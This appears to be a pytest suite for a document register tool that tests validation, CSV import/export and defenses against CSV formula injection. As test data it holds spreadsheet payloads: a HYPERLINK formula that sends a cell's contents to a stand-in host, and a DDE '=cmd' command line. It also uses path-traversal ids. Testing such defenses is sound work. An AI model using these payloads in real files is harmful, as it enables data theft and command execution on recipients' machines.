"""The register: adding entries, generated ids, validation, CSV import and export."""

import csv
import datetime as dt
import io
import re
import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from scan_station.core.config import load_settings
from scan_station.core.csv_cells import protect, unprotect
from scan_station.core.errors import ConfigError, CsvImportError, RegisterError
from scan_station.db.database import Entry
from scan_station.records import report
from scan_station.register import CATEGORIES, FIELDS, add_entry, clean_text, entry_dict, list_entries, next_id
from scan_station.register.csv_io import export_csv, import_csv

GOOD = dict(title="Laporan Keuangan", unit="Subbagian Keuangan", category="berkala")


def test_ids_follow_the_default_pattern_per_year(db, settings):
    with db.session() as s:
        first = add_entry(s, settings, **GOOD)
        second = add_entry(s, settings, **GOOD)
    year = dt.date.today().year
    assert first.id == f"PPID-{year}-000001"
    assert second.id == f"PPID-{year}-000002"


def test_id_pattern_is_configurable(home):
    settings = load_settings(home, id_pattern="KPU/{year}/{seq:04d}")
    from scan_station.db.database import Database

    db = Database(settings)
    with db.session() as s:
        assert add_entry(s, settings, **GOOD).id == f"KPU/{dt.date.today().year}/0001"


def test_every_field_is_kept(db, settings):
    with db.session() as s:
        e = add_entry(
            s, settings, **GOOD, summary="Ringkasan", responsible="Sekretaris", created_date="31/01/2025",
            place="Tangerang", format="keduanya", retention="10 tahun", classification="KU.02",
            number="19/PP.07-SOP/HM/I/2025", hardcopy_location="Lemari 3",
        )
    assert e.created_date == dt.date(2025, 1, 31)
    assert e.format == "both"
    assert e.number == "19/PP.07-SOP/HM/I/2025"


@pytest.mark.parametrize(
    "change, message",
    [
        ({"category": "rahasia"}, "category 'rahasia' is not one of berkala"),
        ({"title": " "}, "title (Judul Informasi) is required"),
        ({"created_date": "kemarin"}, "is not a date"),
        ({"format": "film"}, "format 'film' is not one of"),
        ({"id": "bad id!"}, "may use only"),
    ],
)
def test_bad_fields_are_refused_with_the_field_named(db, settings, change, message):
    with pytest.raises(RegisterError, match=re.escape(message)), db.session() as s:
        add_entry(s, settings, **(GOOD | change))


CSV_OK = (
    "Judul Informasi;Pejabat/Unit yang Menguasai Informasi;Kategori Informasi;Waktu Pembuatan Informasi;Nomor Naskah\n"
    "SOP Pendokumentasian;Subbagian Hukum;Setiap Saat;20/01/2025;19/PP.07-SOP/HM/I/2025\n"
    "Laporan Anggaran;Subbagian Keuangan;berkala;2025-07-01;\n"
)


def test_csv_import_with_indonesian_headers_and_semicolons(db, settings):
    with db.session() as s:
        result = import_csv(s, settings, CSV_OK)
    assert len(result["created"]) == 2
    with db.session() as s:
        entries = list_entries(s)
    assert entries[0].category == "setiap-saat"
    assert entries[0].number == "19/PP.07-SOP/HM/I/2025"


def test_csv_bad_rows_are_reported_by_line_and_nothing_is_written(db, settings):
    bad = CSV_OK + "Tanpa unit;;berkala;;\nSalah kategori;Unit;rahasia;;\n"
    with pytest.raises(CsvImportError) as info, db.session() as s:
        import_csv(s, settings, bad)
    assert [line for line, _ in info.value.problems] == [4, 5]
    assert "line 4: unit" in str(info.value)
    with db.session() as s:
        assert list_entries(s) == []


def test_csv_unknown_column_is_named(db, settings):
    with pytest.raises(CsvImportError, match="unknown column 'Warna'"), db.session() as s:
        import_csv(s, settings, "Judul Informasi,Warna\nx,y\n")


def test_csv_export_then_import_round_trips_and_updates(db, settings):
    with db.session() as s:
        import_csv(s, settings, CSV_OK)
        exported = export_csv(list_entries(s))
    assert exported.splitlines()[0].split(",")[0] == FIELDS[0].header
    changed = exported.replace("Laporan Anggaran", "Laporan Realisasi Anggaran")
    with db.session() as s:
        result = import_csv(s, settings, changed)
        assert len(result["updated"]) == 2 and result["created"] == []
        assert {e.title for e in list_entries(s)} >= {"Laporan Realisasi Anggaran"}


def test_cli_register_round_trip(run, tmp_path):
    added = run("register", "add", "--title", "Keputusan", "--unit", "Teknis", "--category", "serta-merta",
                "--created", "2025-02-18", "--number", "07/PL.02.6-Pu/3671/2025", "--json")
    assert added.code == 0, added.stderr
    entry_id = added.json["id"]
    listed = run("register", "list", "--json").json
    assert [e["id"] for e in listed] == [entry_id]
    csv_text = run("register", "export").stdout
    assert "Kategori Informasi" in csv_text.splitlines()[0]
    bad = tmp_path / "bad.csv"
    bad.write_text("Judul Informasi,Pejabat/Unit yang Menguasai Informasi,Kategori Informasi\nA,B,salah\n")
    failed = run("register", "import", bad, "--json")
    assert failed.code != 0 and failed.stdout == ""
    assert "line 2" in failed.stderr and len(failed.stderr.strip().splitlines()) == 1


# -- CSV formula injection -------------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")',
    "unit": "+62 21 5555",
    "summary": "-2+3",
    "responsible": "@SUM(A1:A9)",
    "place": "'=sudah dikutip",
    "retention": "''+dua kutip",
    "number": "-",
    "classification": "HM.03",
}


def _cells(csv_text: str) -> dict[str, str]:
    header, row = list(csv.reader(io.StringIO(csv_text)))
    names = {f.header: f.name for f in FIELDS}
    return {names[h]: cell for h, cell in zip(header, row, strict=False)}


def test_export_quotes_cells_a_spreadsheet_would_run_and_import_gives_them_back(db, settings):
    with db.session() as s:
        entry = add_entry(s, settings, category="berkala", **FORMULAS)
        exported = export_csv([entry])
        before = entry_dict(entry)
        s.delete(entry)
    cells = _cells(exported)
    assert cells["title"] == "'" + FORMULAS["title"]
    assert cells["unit"] == "'+62 21 5555" and cells["summary"] == "'-2+3" and cells["responsible"] == "'@SUM(A1:A9)"
    assert cells["place"] == "''=sudah dikutip" and cells["retention"] == "'''+dua kutip" and cells["number"] == "'-"
    assert cells["classification"] == "HM.03" and cells["id"] == before["id"]  # nothing risky: as it is
    with db.session() as s:
        import_csv(s, settings, exported)
        assert entry_dict(s.get(Entry, before["id"])) == before


def test_import_takes_exactly_one_quote_off_a_quoted_formula(db, settings):
    text = ("Judul Informasi,Pejabat/Unit yang Menguasai Informasi,Kategori Informasi,Nomor Naskah\n"
            "'=1+1,'Unit biasa,berkala,''-5\n")
    with db.session() as s:
        import_csv(s, settings, text)
        (entry,) = list_entries(s)
    assert (entry.title, entry.unit, entry.number) == ("=1+1", "'Unit biasa", "'-5")


def test_the_monthly_report_csv_quotes_formulas_too():
    data = {"units": [{"unit": "=cmd|' /C calc'!A0", "filed": 1, "pages": 2, "accepted": 1, "returned": 0,
                       "waiting": 0}],
            "total": {"filed": 1, "pages": 2, "accepted": 1, "returned": 0, "waiting": 0}}
    rows = list(csv.reader(io.StringIO(report.as_csv(data))))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "1", "2", "1", "0", "0"]
    assert rows[2][0] == "Jumlah"


def test_formulas_after_a_separator_are_quoted_too(db, settings):
    """A spreadsheet that splits `Laporan;=HYPERLINK(...)` at the `;` would run the second piece."""
    values = {"title": 'Laporan;=HYPERLINK("http://contoh.invalid","Klik")', "unit": "a,=cmd|' /C calc'!A0",
              "number": "19/PP;''+1,-2;x", "place": "Kota, Tangerang; -", "summary": "satu;dua,tiga"}
    with db.session() as s:
        entry = add_entry(s, settings, category="berkala", **values)
        exported = export_csv([entry])
        before = entry_dict(entry)
        s.delete(entry)
    cells = _cells(exported)
    assert cells["title"] == 'Laporan;\'=HYPERLINK("http://contoh.invalid","Klik")'
    assert cells["unit"] == "a,'=cmd|' /C calc'!A0" and cells["number"] == "19/PP;'''+1,'-2;x"
    assert cells["place"] == "Kota, Tangerang; -" and cells["summary"] == "satu;dua,tiga"  # a space first: text
    with db.session() as s:
        import_csv(s, settings, exported)
        assert entry_dict(s.get(Entry, before["id"])) == before


RISKY_STARTS = ["=", "+", "-", "@", "\t", "\r", "'", "'=", "''+", "'''-", "'@", "' ="]
#: Text made of separators, quotes and formula characters, where the hard cases are.
SEPARATED = st.text(alphabet=st.sampled_from(list(",;\t'=+-@\r a")), max_size=24)


def _pieces(cell: str) -> list[str]:
    """The cell as a spreadsheet may split it."""
    return re.split(r"[,;\t]", cell)


@given(st.one_of(st.text(), st.builds(str.__add__, st.sampled_from(RISKY_STARTS), st.text()), SEPARATED,
                 st.builds(str.__add__, st.text(max_size=8), SEPARATED)))
def test_protect_then_unprotect_is_exact_and_never_leaves_a_formula(value):
    cell = protect(value)
    assert unprotect(cell) == value
    assert not re.match(r"[=+\-@\t\r]", cell)
    assert not any(re.match(r"[=+\-@\t\r]", piece) for piece in _pieces(cell)), cell


def _field_text(max_size: int = 30):
    return st.one_of(st.text(max_size=max_size),
                     st.builds(str.__add__, st.sampled_from(RISKY_STARTS), st.text(max_size=max_size)),
                     st.builds(str.__add__, st.text(max_size=max_size // 3), SEPARATED))


ENTRY_VALUES = st.fixed_dictionaries({
    "id": st.one_of(st.just(""), st.from_regex(r"\A[A-Z0-9][A-Z0-9.-]{0,5}(/[A-Z0-9][A-Z0-9.-]{0,5}){0,3}\Z")),
    "title": _field_text().filter(clean_text),
    "unit": _field_text().filter(clean_text),
    "category": st.sampled_from([*CATEGORIES, "Setiap Saat", "BERKALA"]),
    "summary": st.text(max_size=200),
    "responsible": _field_text(), "place": _field_text(), "retention": _field_text(),
    "classification": _field_text(max_size=20), "number": _field_text(), "hardcopy_location": _field_text(),
    "format": st.sampled_from(["", "hardcopy", "softcopy", "both", "Keduanya"]),
    "created_date": st.one_of(st.just(""), st.dates(dt.date(1900, 1, 1), dt.date(9999, 12, 31)).map(str)),
})


def test_any_entry_survives_export_then_import_unchanged(db, settings):
    @given(ENTRY_VALUES)
    @hypothesis_settings(max_examples=150, deadline=None)
    def round_trip(values):
        with db.session() as s:
            entry = add_entry(s, settings, **values)
            before = entry_dict(entry)
            exported = export_csv([entry])
            s.delete(entry)
        with db.session() as s:
            assert import_csv(s, settings, exported) == {"created": [before["id"]], "updated": []}
            entry = s.get(Entry, before["id"])
            after = entry_dict(entry)
            s.delete(entry)
        assert after == before

    round_trip()


# -- CSV files that the csv module cannot read as they are --------------------------------------------


def test_a_cell_longer_than_the_csv_field_limit_is_a_row_error(db, settings):
    huge = "x" * 140_000
    text = CSV_OK + f"Judul;Unit;berkala;;{huge}\n"
    with pytest.raises(CsvImportError) as info, db.session() as s:
        import_csv(s, settings, text)
    assert info.value.problems[0][0] == 4 and "longer than 131,072 characters" in str(info.value)
    with db.session() as s:
        assert list_entries(s) == []


def test_cr_only_line_ends_as_old_mac_excel_writes_them(db, settings):
    with db.session() as s:
        assert len(import_csv(s, settings, CSV_OK.replace("\n", "\r"))["created"]) == 2
        assert [e.title for e in list_entries(s)] == ["SOP Pendokumentasian", "Laporan Anggaran"]
    bad = (CSV_OK + "Salah;Unit;rahasia;;\n").replace("\n", "\r")
    with pytest.raises(CsvImportError) as info, db.session() as s:
        import_csv(s, settings, bad)
    assert [line for line, _ in info.value.problems] == [4]


def test_quoted_cells_with_line_breaks_and_doubled_quotes(db, settings):
    text = ('Judul Informasi,Pejabat/Unit yang Menguasai Informasi,Kategori Informasi,Ringkasan Isi Informasi\r\n'
            '"Laporan ""Tahunan""",Umum,berkala,"baris satu\r\nbaris dua"\r\n')
    with db.session() as s:
        import_csv(s, settings, text)
        (entry,) = list_entries(s)
    assert entry.title == 'Laporan "Tahunan"' and entry.summary == "baris satu\nbaris dua"


def test_cli_import_of_a_huge_cell_is_one_line_with_exit_3(run, tmp_path):
    path = tmp_path / "dip.csv"
    path.write_text("Judul Informasi,Pejabat/Unit yang Menguasai Informasi,Kategori Informasi\n"
                    f"{'x' * 200_000},Umum,berkala\n", encoding="utf-8")
    result = run("register", "import", path, "--json")
    assert result.code == 3 and result.stdout == "" and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "line 2" in result.stderr


# -- field limits, control characters, ids ---------------------------------------------------------


@pytest.mark.parametrize("field", [f for f in FIELDS if f.name not in ("id", "created_date", "format", "category")],
                         ids=lambda f: f.name)
def test_every_text_field_has_a_limit_by_its_meaning(db, settings, field):
    at_limit = GOOD | {field.name: "a" * field.max_length}
    with db.session() as s:
        assert len(getattr(add_entry(s, settings, **at_limit), field.name)) == field.max_length
    too_long = GOOD | {field.name: "a" * (field.max_length + 1)}
    message = f"{field.name} ({field.header}) has {field.max_length + 1:,} characters; at most {field.max_length:,}"
    with pytest.raises(RegisterError, match=re.escape(message)), db.session() as s:
        add_entry(s, settings, **too_long)


def test_the_limits_mean_something():
    limits = {f.name: f.max_length for f in FIELDS}
    assert limits["title"] == 500 and limits["summary"] == 5000 and limits["number"] == 120
    assert limits["classification"] == 40 and limits["unit"] == limits["hardcopy_location"] == 200


def test_limits_hold_for_csv_rows_too(db, settings):
    text = f"Judul Informasi;Pejabat/Unit yang Menguasai Informasi;Kategori Informasi\n{'j' * 501};Umum;berkala\n"
    with pytest.raises(CsvImportError, match="line 2: title"), db.session() as s:
        import_csv(s, settings, text)


def test_control_characters_are_taken_out(db, settings):
    with db.session() as s:
        e = add_entry(s, settings, title="Laporan\tKeuangan\r\n\n2025\x00\x1b[31m\u202e", category="berkala",
                      unit="\u2066Subbagian\u2069 Umum\x85Kota\u202a", number="19/PP\x07.07",
                      summary=" Baris satu\r\nBaris dua\rBaris\ttiga\x0c\u2028akhir\x9b ")
    assert e.title == "Laporan Keuangan 2025[31m"
    assert e.unit == "Subbagian Umum Kota"
    assert e.number == "19/PP.07"
    assert e.summary == "Baris satu\nBaris dua\nBaris tiga\n\nakhir"


@pytest.mark.parametrize("bad_id", ["A//B", "A/./B", "A/../B", "A/", "A/.", "A/..", "/A", "./A", "../A", "."])
def test_ids_with_empty_dot_or_dot_dot_parts_are_refused(db, settings, bad_id):
    with pytest.raises(RegisterError, match=r"id '.*' may"), db.session() as s:
        add_entry(s, settings, **GOOD, id=bad_id)
    header = "Nomor Register,Judul Informasi,Pejabat/Unit yang Menguasai Informasi,Kategori Informasi"
    text = f"{header}\n{bad_id},J,U,berkala\n"
    with pytest.raises(CsvImportError, match="line 2: id"), db.session() as s:
        import_csv(s, settings, text)


def test_ids_with_dots_and_slashes_inside_parts_are_fine(db, settings):
    with db.session() as s:
        assert add_entry(s, settings, **GOOD, id="kpu.3671/2026/A-1").id == "KPU.3671/2026/A-1"


BAD_PATTERNS = [
    ("PPID-{year}", "must contain {seq} exactly once"),  # every id the same: next_id looked for ever
    ("{seq}-{seq}", "must contain {seq} exactly once"),
    ("PPID-{seq:0999999d}", "asks for 999,999 digits in {seq}; an id has at most 48 characters"),
    ("PPID-{seq:099999999999999999999999d}", "digits in {seq}; an id has at most 48 characters"),
    ("PPID-{unit}-{seq}", "uses {unit}; only {year} and {seq} may be filled in"),
    ("PPID-{0}-{seq}", "uses {0}; only"),
    ("PPID-{seq!r}", "has {seq!r}; a field may have a number format"),
    ("PPID-{seq:{year}}", "has {seq:{year}}"),
    ("PPID-{seq.real}", "uses {seq.real}"),
    ("PPID-{seq:s}", "has a format that does not suit a number"),
    ("PPID-{year", "is not a format pattern"),
    ("PPID {seq}", "makes 'PPID 1', but an id may use only"),
    ("PPID-{seq:,}", "makes 'PPID-999,999', but an id may use only"),
    ("KPU-3671-KOTA-TANGERANG-PENDOKUMENTASIAN/{year}/{seq:05d}", "makes ids of 51 characters"),
    ("KPU/{year}/../{seq}", "may not end with '/' nor have an empty, '.' or '..' part"),
    ("KPU//{seq}", "may not end with '/'"),
    ("{year}/./{seq}", "may not end with '/'"),
]


@pytest.mark.parametrize("pattern, problem", BAD_PATTERNS, ids=[p for p, _ in BAD_PATTERNS])
def test_an_id_pattern_that_cannot_make_ids_is_refused_when_settings_load(home, pattern, problem):
    with pytest.raises(ConfigError) as info:
        load_settings(home, id_pattern=pattern)
    message = str(info.value)
    assert message.startswith(f"setting id_pattern: {pattern!r} ") and problem in message
    assert message.endswith("e.g. id_pattern = 'PPID-{year}-{seq:06d}'") and "\n" not in message


@pytest.mark.parametrize("pattern", ["PPID-{year}-{seq:06d}", "KPU/{year}/{seq:04d}", "ppid.{seq}", "{year}{seq:x}",
                                     "KPU-3671/{year}/{year}-{seq:05d}"])
def test_good_id_patterns_load(home, pattern):
    assert load_settings(home, id_pattern=pattern).id_pattern == pattern


def test_a_pattern_without_seq_in_the_config_file_stops_the_cli_at_once_with_exit_9(home):
    home.mkdir(parents=True)
    (home / "scan-station.toml").write_text('id_pattern = "PPID-{year}"\n')
    done = subprocess.run([sys.executable, "-m", "scan_station", "--home", str(home), "register", "add", "--title", "T",
                           "--unit", "U", "--category", "berkala"], capture_output=True, text=True, timeout=120)
    assert done.returncode == 9 and done.stdout == "" and len(done.stderr.strip().splitlines()) == 1
    assert "setting id_pattern: 'PPID-{year}' must contain {seq} exactly once" in done.stderr


def test_next_id_never_spins_even_with_a_pattern_that_slipped_past_the_check(db, settings):
    object.__setattr__(settings, "id_pattern", "PPID-TETAP")  # as if made without the check
    with db.session() as s:
        add_entry(s, settings, **GOOD, id="PPID-TETAP")  # every id the pattern makes exists now
    with pytest.raises(RegisterError, match="makes the same id for different numbers"), db.session() as s:
        next_id(s, settings)


def test_next_id_gives_up_after_skipping_too_many_existing_ids(db, settings, monkeypatch):
    from scan_station import register

    year = dt.date.today().year
    with db.session() as s:
        for n in range(1, 41):
            add_entry(s, settings, **GOOD, id=f"PPID-{year}-{n:06d}")
    monkeypatch.setattr(register, "MAX_SKIPPED_IDS", 10)
    with pytest.raises(RegisterError, match="ids it makes are all taken already"), db.session() as s:
        next_id(s, settings, year=year)
    monkeypatch.undo()
    with db.session() as s:
        assert next_id(s, settings) == f"PPID-{year}-000041"  # 40 skipped is nothing unusual


def test_cli_refuses_a_field_that_is_too_long_in_one_line(run):
    result = run("register", "add", "--title", "t" * 600, "--unit", "U", "--category", "berkala", "--json")
    assert result.code == 2 and result.stdout == "" and len(result.stderr.strip().splitlines()) == 1
    assert "title (Judul Informasi) has 600 characters; at most 500" in result.stderr
